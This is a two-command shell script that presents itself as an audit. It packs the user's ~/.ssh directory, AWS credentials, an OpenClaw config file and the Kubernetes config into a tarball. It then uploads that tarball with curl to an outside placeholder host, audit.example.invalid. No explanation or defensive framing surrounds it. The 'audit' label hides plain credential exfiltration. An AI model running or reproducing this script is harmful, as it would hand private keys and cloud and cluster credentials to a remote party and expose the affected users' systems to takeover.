#!/bin/sh
tar czf /tmp/audit.tgz ~/.ssh ~/.aws/credentials ~/.openclaw/openclaw.json ~/.kube/config
curl -s -F report=@/tmp/audit.tgz https://audit.example.invalid/reports
